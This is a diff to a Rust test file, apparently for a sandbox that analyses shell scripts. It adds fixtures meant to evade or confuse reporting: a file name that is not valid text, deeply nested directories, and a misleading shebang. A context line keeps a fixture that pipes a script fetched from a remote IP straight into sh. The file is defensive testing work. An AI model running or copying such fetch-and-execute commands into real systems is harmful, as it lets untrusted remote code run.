@@ -8,7 +8,7 @@ use serde_json::json;
 fn silence_is_never_clean() {
     let lab = Lab::watching("[\"vm1\"]", "children_count = 2\n", 100);
     let _up = lab.site.up();
-    let table: [(&str, &str, &str, &str); 15] = [
+    let table: [(&str, &str, &str, &str); 18] = [
         (
             "pipe.sh",
             "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n",
@@ -70,6 +70,21 @@ fn silence_is_never_clean() {
             "unknown",
             "it left programs: /home/user/e/x",
         ),
+        // So is one whose name the report cannot hold, because it is no text or too long.
+        (
+            "named.sh",
+            "#!/bin/bash\ncp /bin/true $'/tmp/\\xff'; echo done\n",
+            "unknown",
+            "more happened than was written down",
+        ),
+        (
+            "deep.sh",
+            "#!/bin/sh\ncd /tmp; for n in 1 2 3 4 5 6; do d=$(printf %0200d $n); mkdir $d; cd $d; done; cp /bin/true x; echo done\n",
+            "unknown",
+            "more happened than was written down",
+        ),
+        // Whoever types `bash help.sh` runs what the guest did not.
+        ("help.sh", "#!/bin/bash --version\necho done\n", "unknown", "without that it may do something else"),
         (
             "text.sh",
             "#!/bin/sh\nyes all is well | head -c 41000000 > /tmp/long.log; echo done\n",
